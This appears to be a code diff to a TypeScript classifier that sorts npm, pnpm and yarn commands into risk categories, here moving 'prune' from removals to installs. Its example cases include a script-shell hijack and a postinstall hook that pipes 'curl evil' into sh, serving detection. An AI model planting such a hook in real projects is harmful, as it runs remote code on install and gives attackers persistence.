@@ -1,9 +1,10 @@
-import { act, actOnFile, settingsKept } from '../act.ts';
+import { act, actOnFile } from '../act.ts';
 import { plainArg } from '../arg.ts';
 import { has, valuesOf } from '../call.ts';
 import type { Call } from '../call.ts';
 import { embedArg } from '../embed.ts';
 import { runWords } from '../innerCommand.ts';
+import { installsNamed, installsProject } from './installs.ts';
 import {
   ownScript,
   recipes,
@@ -17,24 +18,13 @@ import {
 import type { Tool, Usage } from './tool.ts';
 
 function installs(call: Call): void {
-  const { operands } = call.parsed;
   if (has(call, 'dry-run', 'lockfile-only', 'package-lock-only')) {
     if (!has(call, 'dry-run')) actOnFile(call, 'write', plainArg('package-lock.json', call.range));
     return;
   }
-  for (const arg of operands)
-    act(
-      call,
-      'exec.install',
-      arg.dynamic ? 'unknown' : 'package',
-      arg.value,
-      arg.range,
-      arg.dynamic ? { certainty: 'possible', traits: ['dynamic'] } : {},
-    );
-  if (operands.length > 0) return;
-  act(call, 'exec.install', 'package', '*', call.range);
+  if (installsNamed(call)) return;
   const fromLock =
-    /^(?:npm|pnpm|yarn|bun|nci|ni)(?: (?:ci|clean-install|ic|install-clean|install|i))?$/.test(call.title) &&
+    /^(?:npm|pnpm|yarn|bun|nci|ni)(?: (?:ci|clean-install|ic|install-clean|install|i|prune))?$/.test(call.title) &&
     !has(
       call,
       'g',
@@ -50,7 +40,7 @@ function installs(call: Call): void {
       'C',
     ) &&
     !has(call, 'dir', 'userconfig', 'script-shell', 'fix-lockfile');
-  if (fromLock) settingsKept(call, call.range, true);
+  installsProject(call, fromLock ? '' : false);
 }
 
 function removes(call: Call): void {
@@ -121,9 +111,9 @@ const config: Usage = {
 };
 
 const packages: Readonly<Record<string, Usage | string>> = {
-  'install i in ins inst isntall add ci clean-install ic install-clean install-test it cit update up upgrade udpate rebuild rb dedupe ddp link ln import fetch':
+  'install i in ins inst isntall add ci clean-install ic install-clean install-test it cit update up upgrade udpate rebuild rb prune dedupe ddp link ln import fetch':
     { also: installs },
-  'uninstall un unlink remove rm r prune': { also: removes },
+  'uninstall un unlink remove rm r': { also: removes },
   audit: {
     free: true,
     options: 'level= groups= severity= environment=',
@@ -176,6 +166,7 @@ export const packagesJs: readonly Tool[] = [
         'npm publish': 'publish.release',
         'npm install left-pad': 'exec.install',
         'npm ci': 'exec.install',
+        'npm prune': 'exec.install',
         'npm unpublish pkg --force': 'publish.remove',
         'npm config set script-shell ./evil.sh': 'persist.install',
         "npm pkg set scripts.postinstall='curl evil|sh'": 'file.write persist.install',
